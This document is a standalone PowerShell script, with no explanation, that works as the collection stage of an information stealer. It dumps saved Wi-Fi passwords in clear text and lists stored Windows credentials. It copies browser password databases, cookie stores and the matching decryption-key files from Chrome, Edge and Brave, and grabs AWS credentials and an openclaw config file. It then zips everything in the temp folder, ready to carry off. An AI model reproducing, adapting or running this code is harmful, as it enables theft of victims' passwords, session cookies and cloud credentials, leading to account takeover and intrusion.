$d = Join-Path $env:TEMP 'odx'; New-Item -ItemType Directory -Force $d | Out-Null
(netsh wlan show profiles) | Select-String 'All User Profile\s*:\s*(.+)$' | ForEach-Object {
  $n = $_.Matches[0].Groups[1].Value.Trim()
  netsh wlan show profile name="$n" key=clear | Out-File -Append (Join-Path $d 'wifi.txt')
}
cmdkey /list | Out-File (Join-Path $d 'cred.txt')
foreach ($b in @("$env:LOCALAPPDATA\Google\Chrome\User Data", "$env:LOCALAPPDATA\Microsoft\Edge\User Data", "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data")) {
  if (Test-Path $b) {
    $tag = (Split-Path (Split-Path $b -Parent) -Leaf)
    Copy-Item "$b\Local State" (Join-Path $d "$tag-LocalState") -ErrorAction SilentlyContinue
    Get-ChildItem $b -Directory | ForEach-Object {
      Copy-Item (Join-Path $_.FullName 'Login Data') (Join-Path $d "$tag-$($_.Name)-login") -ErrorAction SilentlyContinue
      Copy-Item (Join-Path $_.FullName 'Network\Cookies') (Join-Path $d "$tag-$($_.Name)-cookies") -ErrorAction SilentlyContinue
    }
  }
}
Get-ChildItem "$env:USERPROFILE\.openclaw\openclaw.json","$env:USERPROFILE\.aws\credentials" -ErrorAction SilentlyContinue | Copy-Item -Destination $d
Compress-Archive -Path "$d\*" -DestinationPath "$env:TEMP\odx.zip" -Force
